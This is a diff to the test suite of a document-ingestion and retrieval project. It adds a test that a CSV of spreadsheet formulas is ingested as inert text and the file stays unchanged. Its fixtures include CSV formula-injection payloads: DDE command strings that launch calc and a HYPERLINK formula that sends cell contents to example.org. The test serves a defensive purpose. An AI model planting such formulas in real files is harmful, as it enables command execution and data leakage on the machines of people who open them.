@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
 from collections import Counter
+from pathlib import Path
 
 import pytest
 from hypothesis import given, strategies as st
 
+from ingest import ingest
 from ingest.readers import Source, formats
+from rag import Rag
 from rag.errors import DocumentError
 
 
@@ -44,6 +48,28 @@ def test_a_table_without_names_keeps_its_first_row() -> None:
 def test_a_formula_in_a_table_is_text() -> None:
     text = read("csv", "name,value\nx,=cmd|'/C calc'!A0\n").text
     assert text == "name; value\n\nname: x; value: =cmd|'/C calc'!A0\n\n"
+
+
+@pytest.mark.fault(53)
+def test_a_spreadsheet_of_formulas_is_ingested_as_it_is(tmp_path: Path) -> None:
+    rows = [
+        ["name", "value"],
+        ["shell", "=cmd|'/C calc'!A0"],
+        ["link", '=HYPERLINK("http://example.org/?"&A1, "click")'],
+        ["sum", "@SUM(1+1)*cmd|' /C calc'!A0"],
+        ["plus", "+1+1"],
+        ["tab", "\t=1+1"],
+    ]
+    file = tmp_path / "formulas.csv"
+    with file.open("w", encoding="utf-8-sig", newline="") as opened:
+        csv.writer(opened, dialect="excel").writerows(rows)
+    before = file.read_bytes()
+    assert len(ingest(file).added) == 1
+    with Rag() as bot:
+        text = bot.source_text(bot.documents()[0].document_id)
+    lines = [f"name: {name}; value: {value.strip()}" for name, value in rows[1:]]
+    assert text == "\n\n".join(["name; value", *lines, ""])
+    assert file.read_bytes() == before
 
 
 @given(st.lists(st.lists(st.text(alphabet="ab1,;\"' \n|\t"), max_size=4), max_size=6))
